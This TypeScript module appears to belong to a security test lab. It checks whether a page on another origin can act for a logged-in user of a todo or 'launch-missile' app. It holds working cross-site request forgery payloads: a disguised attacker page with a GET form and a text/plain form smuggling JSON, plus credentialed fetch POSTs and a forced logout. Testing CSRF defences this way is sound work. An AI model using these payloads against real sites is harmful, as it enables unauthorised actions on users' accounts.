/**
 * What a page of another origin can send to the lab while someone who is
 * logged in has it open.
 *
 * @module
 */
import type { Outcome } from "../runner/attack.ts";
import type { Range } from "../runner/range.ts";

/** Opens a page of the attacker's at `url` and lets it try each way. */
export async function sendsFrom(range: Range, url: string): Promise<Outcome> {
  const { stage } = range;
  const user = await range.userPage();
  const before = await range.contents(user);
  const page = await user.context().newPage();
  const isMissile = stage.app === "missile";
  const target = range.url + (isMissile ? "/launch-missile" : "/todo/create");
  // In plain text, a form's `name=value` can be JSON: its `=` is in a string.
  range.attackersPage = `<!doctype html><title>Kittens</title>
    <form method="get" action="${target}">
      <input name="text" value="from another site">
    </form>
    <form method="post" enctype="text/plain" action="${target}">
      <input name='{"text":"from another site","x":"' value='"}'>
    </form>`;
  await page.goto(url);
  const start = range.exchanges.length;
  await page.evaluate(async ([target, logout]) => {
    const body = JSON.stringify({ text: "from another site" });
    const send = (url: string, init: RequestInit) =>
      fetch(url, { credentials: "include", ...init }).catch(() => null);
    const asks = { "Content-Type": "application/json" };
    await send(target, { method: "POST", body, headers: asks });
    await send(target, { method: "POST", body, mode: "no-cors" });
    await send(target, { method: "POST", mode: "no-cors" });
    await send(logout, { method: "POST", mode: "no-cors" });
  }, [target, `${range.url}/auth/logout`] as const);
  // A form opens its target in the page's own window. Cookies that are
  // SameSite=Lax go along with the one that is a GET.
  const submit = (form: number) =>
    Promise.all([
      page.waitForURL((url) => url.href.startsWith(target)),
      page.evaluate((form) => document.forms[form].submit(), form),
    ]);
  await submit(0);
  await page.goto(url);
  await submit(1);
  const sent = range.exchanges.slice(start)
    .filter(({ url }) => /\/(auth|todo|launch-missile)/.test(url));
  const acted = sent.some(({ status }) => status === 200);
  const changed = await range.contents(user) !== before;
  return { broken: acted || changed, evidence: sent };
}
